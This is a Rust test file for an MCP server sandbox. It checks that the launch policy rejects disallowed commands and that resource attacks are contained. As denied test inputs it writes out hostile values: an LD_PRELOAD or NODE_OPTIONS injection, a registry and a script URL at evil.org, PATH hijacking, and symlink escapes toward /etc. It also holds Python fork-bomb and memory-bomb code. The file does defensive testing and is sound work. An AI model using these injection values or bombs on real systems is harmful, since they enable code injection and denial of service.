//! Attacks that are worth more than a line of the table: what callers try to start, and programs that want to bring the
//! machine down. Each is contained, and its failure says what happened.

use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::Duration;

use indexmap::IndexMap;
use mcp_core::{ErrorCode, StdioServer};
use mcp_sandbox::{LaunchPolicy, Sandbox};

use crate::launching::{Launching, Who};
use crate::program::{LEGACY, processes_with};

fn sandbox(policy: &str) -> Sandbox {
    let lookup = |name: &str| std::env::var(name).ok();
    let policy = LaunchPolicy::from_text(Path::new("policy.toml"), policy, &lookup).unwrap();
    Sandbox::with_launcher(policy, env!("CARGO_BIN_EXE_mcp-sandbox").into())
}

#[tokio::test]
async fn callers_start_nothing_but_what_is_allowed() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    let proof = at("proof");
    for name in ["env", "tricks"] {
        std::fs::create_dir(at(name)).unwrap();
    }
    std::fs::write(at("env/good"), "TOKEN=t\n").unwrap();
    std::fs::write(at("env/preload"), "LD_PRELOAD=/tmp/evil.so\n").unwrap();
    std::fs::write(at("outside"), "TOKEN=hunter2\n").unwrap();
    symlink(at("outside"), at("env/link")).unwrap();
    symlink("/etc", at("env/folder")).unwrap();
    // What PATH would lead to, if a caller could choose it.
    let evil = format!("#!/bin/sh\ntouch {}\n", proof.display());
    std::fs::write(at("tricks/npx"), evil).unwrap();
    let policy = format!(
        r#"
        env_dir = {env:?}
        [[command]]
        name = "npx"
        path = "/usr/bin/touch"
        args = ["-y", "@scope/server@1.2.3"]
        env = ["TOKEN"]
        [[command]]
        name = "python3"
        path = "/usr/bin/python3"
        args = ["/srv/server.py", "--port=*"]
        [[command]]
        name = "python"
        path = "/usr/bin/python3"
        args = ["*.py"]
        [[command]]
        name = "uv"
        path = "/usr/bin/touch"
        args = ["--directory", "/srv/**", "run", "*"]
        "#,
        env = at("env"),
    );
    let sandbox = sandbox(&policy);
    let server = |command: &str, args: &[&str]| StdioServer {
        command: command.into(),
        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
        env: IndexMap::new(),
        env_file: None,
    };
    let allowed = ["-y", "@scope/server@1.2.3"];
    let with_env = |name: &str, value: &str| {
        let mut server = server("npx", &allowed);
        server.env.insert(name.into(), value.to_owned().into());
        server
    };
    let with_file = |file: &str| StdioServer {
        env_file: Some(file.into()),
        ..server("npx", &allowed)
    };
    let there = proof.display().to_string();
    for denied in [
        server("npx", &["-y", "other"]),
        server("npx", &["-y", "@scope/server@1.2.3", &there]),
        server("npx", &[&there]),
        server("python3", &["-c", "open('proof', 'w')"]),
        server("python3", &["/srv/server.py", "-c"]),
        server("python3", &["-", "--port=1"]),
        server("python", &["-cimport os;os.open('proof',os.O_CREAT)#.py"]),
        server("python", &["../server.py"]),
        server("uv", &["--directory", "/srv/../tmp", "run", "x.py"]),
        server(
            "uv",
            &["--directory", "/srv/a", "run", "https://evil.org/x.py"],
        ),
        server("uv", &["--directory", "/srv/a", "run", "--with=evil"]),
        server("sh", &["-c", "touch proof"]),
        server(&at("tricks/npx").display().to_string(), &allowed),
        server("tricks/npx", &allowed),
        server("/usr/bin/../bin/touch", &allowed),
        with_env("PATH", &at("tricks").display().to_string()),
        with_env("LD_PRELOAD", "/tmp/evil.so"),
        with_env("ld_preload", "/tmp/evil.so"),
        with_env("NODE_OPTIONS", "--require=/tmp/evil.js"),
        with_env("npm_config_registry", "https://evil.org"),
        with_env("OTHER", "x"),
        with_file("../outside"),
        with_file("link"),
        with_file("folder/environment"),
        with_file("good/../../outside"),
        with_file(&at("outside").display().to_string()),
        with_file("preload"),
    ] {
        let failure = sandbox
            .initialize("tester", "x", &denied)
            .await
            .unwrap_err();
        assert_eq!(
            failure.code,
            ErrorCode::LaunchDenied,
            "{denied:?}: {failure}"
        );
        assert!(!failure.message.contains("hunter2"), "{failure}");
    }
    assert!(!proof.exists());
}

/// A program of its own for each test: what is left of it would show by the mark.
async fn attack(who: Who, mark: &str, limits: &str, code: &str) -> (String, String, usize) {
    let policy = format!(
        "limits.handshake_ms = 5000\n{limits}\n[[command]]\nname = \"python3\"\npath = \"/usr/bin/python3\"\n"
    );
    let launching = Launching::new(who, &policy);
    let code = format!("{LEGACY}\n{code}");
    let args = ["-c", &code, mark];
    let mut peak = 0;
    let mut run = std::pin::pin!(launching.run("python3", &args));
    let told = loop {
        tokio::select! {
            told = &mut run => break told,
            () = tokio::time::sleep(Duration::from_millis(20)) => peak = peak.max(processes_with(mark).len()),
        }
    };
    told.assert_nothing_left();
    assert_eq!(processes_with(mark), [] as [u32; 0]);
    let (code, message) = told.outcome().unwrap_err();
    (code.to_owned(), message.to_owned(), peak)
}

#[tokio::test]
async fn a_fork_bomb_is_contained() {
    for who in Who::all() {
        let bomb = "while True:\n    try: os.fork()\n    except OSError: pass";
        let limits = "limits.processes = 50";
        let (code, message, peak) = attack(who, "mark-of-the-fork-bomb", limits, bomb).await;
        match who {
            // The kernel counts none of root's processes, so the launcher does.
            Who::Root => {
                assert_eq!(code, "launch-limit", "{message}");
                assert!(
                    message.contains("processes and threads, 50 are allowed"),
                    "{message}"
                );
            }
            // No more than that can be forked at all; then the time is up.
            Who::Nobody => {
                assert_eq!(code, "handshake-timeout", "{message}");
                assert!(peak <= 50, "{peak} processes");
            }
        }
        assert!(peak < 5_000, "{peak} processes");
    }
}

#[tokio::test]
async fn a_fork_bomb_of_daemons_is_contained() {
    for who in Who::all() {
        let bomb = "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(s, signal.SIG_IGN)\n\
                    while True:\n    try:\n        if os.fork() == 0: os.setsid()\n    except OSError: pass";
        let limits = "limits.processes = 50";
        let (_, _, peak) = attack(who, "mark-of-the-daemons", limits, bomb).await;
        assert!(peak < 5_000, "{peak} processes");
    }
}

#[tokio::test]
async fn a_memory_bomb_is_contained() {
    for who in Who::all() {
        let bomb = "held = []\nwhile True: held.append(b'x' * (1 << 20))";
        let limits = "limits.memory_bytes = 134217728";
        let (code, message, _) = attack(who, "mark-of-the-memory-bomb", limits, bomb).await;
        // The kernel gives it no more, and Python says so; or the launcher has looked in the moment before that.
        let (by_kernel, by_watch) = ("MemoryError", "bytes of memory, 134217728 are allowed");
        match &*code {
            "launch-failed" => assert!(message.contains(by_kernel), "{message}"),
            "launch-limit" => assert!(message.contains(by_watch), "{message}"),
            other => panic!("{other}: {message}"),
        }

        let bomb = "for n in range(20):\n    if os.fork() == 0:\n        held = b'x' * 50000000\n        time.sleep(60)\n\
                    time.sleep(60)";
        let (code, message, _) = attack(who, "mark-of-many-bombs", limits, bomb).await;
        assert_eq!(code, "launch-limit", "{message}");
        assert!(
            message.contains("bytes of memory, 134217728 are allowed"),
            "{message}"
        );
    }
}

#[tokio::test]
async fn a_program_that_burns_processor_time_is_ended() {
    let (code, message, _) = attack(
        Who::all()[0],
        "mark-of-the-burner",
        "limits.cpu_seconds = 1",
        "while True: pass",
    )
    .await;
    assert_eq!(code, "launch-limit", "{message}");
    assert!(
        message.contains("more processor time than is allowed"),
        "{message}"
    );
}

#[tokio::test]
async fn where_a_layer_is_missing_it_is_said_or_nothing_is_started() {
    for who in Who::all() {
        let policy = "[[command]]\nname = \"python3\"\npath = \"/usr/bin/python3\"\n";
        let mut launching = Launching::new(who, policy);
        let code = format!("{LEGACY}\nserve()");
        let args = ["-c", code.as_str()];
        launching.require = true;
        launching.run("python3", &args).await.outcome().unwrap();

        launching.hide_landlock = true;
        let told = launching.run("python3", &args).await;
        let missing: Vec<_> = told.missing.iter().map(ToString::to_string).collect();
        assert!(
            missing.iter().any(|missing| missing
                .starts_with("Landlock rules of files (the kernel has no Landlock")),
            "{missing:?}"
        );
        let (code, message) = told.outcome().unwrap_err();
        assert_eq!(code, "launch-denied");
        assert!(
            message.contains("MCP_SANDBOX=require") && message.contains("Landlock rules of files"),
            "{message}"
        );

        launching.require = false;
        launching.run("python3", &args).await.outcome().unwrap();
    }
}

#[tokio::test]
async fn a_program_runs_as_the_user_that_the_policy_names() {
    // Only root can make it someone else.
    if Who::all() == [Who::Nobody] {
        return;
    }
    let policy = "run_as = { uid = 61234, gid = 61235 }\n\
                  [[command]]\nname = \"python3\"\npath = \"/usr/bin/python3\"\n";
    let code = format!(
        "{LEGACY}\nopen('mine', 'w').write('x')\n\
         tools = [str(os.getresuid()), str(os.getresgid()), str(os.getgroups()), os.getcwd()]\n\
         tools += [line for line in open('/proc/self/status') if line.startswith(('Cap', 'NoNewPrivs'))]\n\
         def answer(method, params, first=answer):\n    \
         return {{'tools': [tool(t) for t in tools]}} if method == 'tools/list' else first(method, params)\nserve()"
    );
    let told = Launching::new(Who::Root, policy)
        .run("python3", &["-c", &code])
        .await;
    told.assert_nothing_left();
    let tools = told.tools();
    assert_eq!(tools[0], "(61234, 61234, 61234)");
    assert_eq!(tools[1], "(61235, 61235, 61235)");
    assert_eq!(tools[2], "[61235]");
    for line in &tools[4..] {
        let expected = if line.starts_with("Cap") {
            "0000000000000000"
        } else {
            "1"
        };
        assert!(line.trim().ends_with(expected), "{line}");
    }
}

#[tokio::test]
async fn what_the_policy_opens_is_open() {
    let folder = tempfile::tempdir().unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let socket = folder.path().join("socket");
    let _socket = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    std::fs::write(folder.path().join("read"), "readable").unwrap();
    std::fs::create_dir(folder.path().join("write")).unwrap();
    let policy = format!(
        "[[command]]\nname = \"python3\"\npath = \"/usr/bin/python3\"\nnetwork = true\nunix_sockets = true\n\
         read = [{:?}]\nwrite = [{:?}]\n",
        folder.path().join("read"),
        folder.path().join("write"),
    );
    let code = format!(
        "{LEGACY}\nimport socket\ndirectory = {:?}\n\
         assert open(directory + '/read').read() == 'readable'\n\
         open(directory + '/write/new', 'w').write('x')\n\
         socket.create_connection(('127.0.0.1', {}))\n\
         socket.getaddrinfo('localhost', 80)\n\
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))\n\
         s = socket.socket(socket.AF_UNIX)\ns.connect(directory + '/socket')\n\
         try: open(directory + '/read', 'w')\nexcept PermissionError: serve()",
        folder.path(),
        listener.local_addr().unwrap().port(),
    );
    let sandbox = sandbox(&policy);
    let server = StdioServer {
        command: "python3".into(),
        args: vec!["-c".into(), code],
        env: IndexMap::new(),
        env_file: None,
    };
    sandbox.initialize("tester", "open", &server).await.unwrap();
    assert!(folder.path().join("write/new").exists());
}

#[tokio::test]
async fn another_policy_takes_effect_for_the_launches_that_come() {
    let allow = "[[command]]\nname = \"python3\"\npath = \"/usr/bin/python3\"\n";
    let server = StdioServer {
        command: "python3".into(),
        args: vec!["-c".into(), format!("{LEGACY}\nserve()")],
        env: IndexMap::new(),
        env_file: None,
    };
    let sandbox = sandbox(allow);
    sandbox
        .initialize("tester", "first", &server)
        .await
        .unwrap();
    sandbox.replace_policy(LaunchPolicy::deny_all());
    let failure = sandbox
        .initialize("tester", "second", &server)
        .await
        .unwrap_err();
    assert_eq!(failure.code, ErrorCode::LaunchDenied);
}
